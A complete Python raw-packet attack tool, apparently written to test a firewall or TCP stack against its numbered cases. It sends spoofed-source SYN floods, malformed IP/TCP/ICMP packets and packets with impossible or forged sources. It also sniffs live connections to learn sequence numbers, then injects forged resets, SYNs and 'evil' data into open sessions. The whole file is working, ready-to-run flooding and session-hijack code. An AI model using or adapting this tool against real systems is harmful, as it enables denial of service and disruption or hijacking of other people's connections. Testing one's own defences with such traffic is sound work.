#!/usr/bin/env python3
"""Packets that nobody honest sends: attack.py IFACE MAC ATTACK ARGUMENT...

  flood SRC DST PORT COUNT         SYNs; SRC "any": of anybody, PORT 0: to any
  odd SRC:PORT DST:PORT            one of each kind that no stack sends
  syns SRC:PORT DST:PORT SECONDS   SYNs of ever new attempts, 200 a second
  session SRC:PORT DST:PORT SECONDS
                                   into an open session, numbers learnt from
                                   what passes IFACE towards DST
  icmp SRC:PORT DST:PORT           errors that quote a segment DST -> SRC
  control SRC:PORT DST:PORT        datagrams for the control address
  strangers DST:PORT               sources that cannot be, or are the gateway's

The frames leave IFACE for MAC as they are; no firewall of ours looks at them.
"""
import random
import socket
import struct
import sys
import time

FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
MSS = b"\x02\x04\x05\xb4"
RANDOM = random.Random(1)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp(src, dst, flags, seq=0, ack=0, opts=b"", data=b"", doff=None, wrong=0,
        window=60000):
    """A segment from (address, port) to (address, port)."""
    n = 5 + len(opts) // 4
    head = struct.pack("!HHIIBBHHH", src[1], dst[1], seq % 2**32, ack % 2**32,
                       (n if doff is None else doff) << 4, flags, window, 0, 0)
    seg = head + opts + data
    pseudo = socket.inet_aton(src[0]) + socket.inet_aton(dst[0])
    c = checksum(pseudo + struct.pack("!HH", 6, len(seg)) + seg) ^ wrong
    return seg[:16] + struct.pack("!H", c) + seg[18:]


def ip(src, dst, body, proto=6, ttl=64, frag=0x4000, opts=b"", ihl=None,
       total=None, wrong=0):
    """A packet; src and dst as for tcp(), their ports do not matter."""
    n = 5 + len(opts) // 4
    head = struct.pack("!BBHHHBBH", 0x40 | (n if ihl is None else ihl), 0,
                       n * 4 + len(body) if total is None else total, 1, frag,
                       ttl, proto, 0)
    head += socket.inet_aton(src[0]) + socket.inet_aton(dst[0]) + opts
    c = checksum(head) ^ wrong
    return head[:10] + struct.pack("!H", c) + head[12:] + body


def end(text):
    address, port = text.rsplit(":", 1)
    return address, int(port)


def anybody():
    return (f"{RANDOM.randint(1, 126)}.{RANDOM.randint(0, 255)}."
            f"{RANDOM.randint(0, 255)}.{RANDOM.randint(1, 254)}")


def flood(src, dst, port, count):
    for _ in range(int(count)):
        a = (anybody() if src == "any" else src, RANDOM.randint(1024, 65535))
        b = (dst, int(port) or RANDOM.randint(1, 65535))
        yield ip(a, b, tcp(a, b, SYN, RANDOM.getrandbits(32), opts=MSS))


def syns(src, dst, seconds):
    a, b = end(src), end(dst)
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        yield ip(a, b, tcp(a, b, SYN, RANDOM.getrandbits(32), opts=MSS))
        time.sleep(0.005)


BAD_OPTIONS = (
    b"\x02\x00\x05\xb4", b"\x02\x01\x05\xb4", b"\x02\x28\x05\xb4",
    b"\x02\x03\x05\x01", b"\x03\x03\xff\x01", b"\x08\x0a\x00\x00",
    b"\x02\x04\x00\x00", b"\x02\x04\x00\x01", b"\xff\xff\xff\xff",
    b"\x05\x0a" + b"\0" * 10, b"\x01" * 40, b"\x00" * 40, b"\x13\x12" + b"\0" * 18,
    b"\x1d\x04\0\0", b"\x1e\x0c\x10" + b"\0" * 9, b"\x02\x04\x05\xb4" * 10,
    b"\x01\x01\x01\x02", b"\x22\x0a" + b"x" * 10)


def odd(src, dst):
    """Of each kind one; all of them with a SYN's flags where that fits."""
    a, b = end(src), end(dst)
    seq = 4000000000
    syn = tcp(a, b, SYN, seq, opts=MSS)
    for flags in range(64):         # A1, A2: every set of flags but a SYN
        if flags & (SYN | ACK | RST | FIN) != SYN:
            yield ip(a, b, tcp(a, b, flags, seq, 77))
    yield ip(a, b, tcp(a, b, SYN, seq, opts=MSS, wrong=0x101))      # A3
    yield ip(a, b, syn, wrong=0x101)
    for n in range(61):             # A15: cut at every length
        whole = ip(a, b, syn + b"\0" * 40)
        yield whole[:n]
        if n != len(syn):
            yield ip(a, b, (syn + b"\0" * 40)[:n])
    for ihl in (0, 1, 4, 6, 15):
        yield ip(a, b, syn, ihl=ihl)
    for total in (0, 19, 20, 39, 65535):
        yield ip(a, b, syn, total=total)
    for doff in (0, 4, 7, 15):
        yield ip(a, b, tcp(a, b, SYN, seq, doff=doff))
    yield ip(a, b, syn[:8], frag=0x2000)                            # A4
    yield ip(a, b, syn[8:], frag=1)
    yield ip(a, b, syn, frag=0x2000)
    for ttl in (0, 1):
        yield ip(a, b, syn, ttl=ttl)
    for opts in (b"\x07\x27\x04" + b"\0" * 37, b"\x44\x28\x05\x00" + b"\0" * 36,
                 b"\x83\x07\x04\x0a\x01\x00\x01\x00", b"\x89\x07\x04\x0a\x01\0\1\0",
                 b"\x94\x04\0\0", b"\x07\x00\0\0", b"\x07\x02\0\0",
                 b"\x44\xff\0\0", b"\x44\x0c\x05\xf1" + b"\0" * 8,
                 b"\xff\x01\0\0", b"\x82\x0b" + b"\0" * 10):
        yield ip(a, b, tcp(a, b, ACK, seq, 5), opts=opts)
    for proto in (0, 1, 2, 4, 17, 41, 47, 50, 132, 255):
        yield ip(a, b, syn, proto=proto)
    for opts in BAD_OPTIONS:
        yield ip(a, b, tcp(a, b, ACK, seq, 5, opts=opts))
        yield ip(a, b, tcp(a, b, SYN | ACK, seq, 5, opts=opts))


def learn(link, a, b):
    """Sequence number, acknowledgement and window of a segment a -> b."""
    want = struct.pack("!4s4sHH", socket.inet_aton(a[0]), socket.inet_aton(b[0]),
                       a[1], b[1])
    link.settimeout(5)
    while True:
        p = link.recv(200)[14:]
        if len(p) >= 40 and p[9] == 6 and p[12:24] == want and p[33] & 23 == ACK:
            return struct.unpack("!IIxxH", p[24:36])


def session(link, src, dst, seconds):
    """Nothing here may be believed, or hurt: no number is exact."""
    a, b = end(src), end(dst)
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        try:
            seq, ack, window = learn(link, a, b)
        except TimeoutError:        # both are silent
            return
        for far in (2**31, 10**8, -10**8, 2**30):
            yield ip(a, b, tcp(a, b, RST, seq + far))
            yield ip(a, b, tcp(a, b, SYN, seq + far, opts=MSS))
            yield ip(a, b, tcp(a, b, SYN | ACK, seq + far, ack, opts=MSS))
        yield ip(a, b, tcp(a, b, RST | ACK, 0, ack))                # A9
        for far in (10**8, 2**30):
            yield ip(a, b, tcp(a, b, ACK, seq + far, ack, data=b"evil" * 9))
            yield ip(a, b, tcp(a, b, ACK, seq, ack + far))          # A7
            yield ip(a, b, tcp(a, b, ACK | FIN, seq + far, ack))
        for flags in (0, FIN, SYN | FIN, SYN | RST, FIN | PSH | URG, 63):
            yield ip(a, b, tcp(a, b, flags, seq, ack, data=b"evil"))
        for other in (a[0], a[1] ^ 1), ("198.18.0.1", a[1]):        # D22
            yield ip(other, b, tcp(other, b, RST, seq))
            yield ip(other, b, tcp(other, b, ACK, seq, ack, data=b"evil"))
            yield ip(other, b, tcp(other, b, SYN, seq, opts=MSS))
        yield ip(a, b, tcp(a, b, ACK, seq, ack, data=b"evil"), wrong=1)
        yield ip(a, b, tcp(a, b, ACK, seq, ack, data=b"evil", wrong=1,  # D26
                           window=window))
        yield ip(a, b, tcp(a, b, ACK, seq, ack, data=b"evil" * 8)[:24],
                 frag=0x2000)
        yield ip(a, b, tcp(a, b, RST, seq), ttl=1)


def icmp(src, dst):
    a, b = end(src), end(dst)
    for kind, code in [(3, c) for c in range(16)] + [(4, 0), (5, 1), (11, 0),
                                                      (11, 1), (12, 0), (8, 0)]:
        for mtu in (0, 68, 552, 1400):
            quoted = ip(b, a, tcp(b, a, ACK, 1, 1))
            for n in (0, 8, 20, 28, 40):
                body = struct.pack("!BBHHH", kind, code, 0, 0, mtu) + quoted[:n]
                body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
                yield ip(a, b, body, proto=1)


def strangers(dst):
    b = end(dst)
    for address in ("0.0.0.0", "127.0.0.1", "224.0.0.1", "255.255.255.255",
                    "240.0.0.1", "203.0.113.1", "192.0.2.1", "10.0.0.2",
                    "100.64.0.2", "198.51.100.1", "198.51.100.9", b[0]):
        for port in (b[1], 40000, 0):
            a = (address, port)
            yield ip(a, b, tcp(a, b, SYN, 12345, opts=MSS))
            yield ip(a, b, tcp(a, b, ACK, 12345, 5))
            yield ip(a, b, tcp(a, b, RST, 12345))


def control(src, dst):
    a, b = end(src), end(dst)
    text = b"!/3 [10.0.0.1]:2944 T=1{C=1{S=*}}"
    head = struct.pack("!HHHH", a[1], b[1], 8 + len(text), 0)
    yield ip(a, b, head + text, proto=17)


def main():
    iface, mac, attack, *args = sys.argv[1:]
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    link.bind((iface, 3))
    if attack == "session":
        args.insert(0, link)
    head = bytes.fromhex(mac.replace(":", "")) + b"\x02\0\0\0\0\x66\x08\0"
    sent = 0
    for packet in globals()[attack](*args):
        while True:
            try:
                link.send(head + packet)
                break
            except OSError:         # the queue is full
                time.sleep(0.001)
        sent += 1
    print(f"{attack}: {sent} packets")


if __name__ == "__main__":
    main()
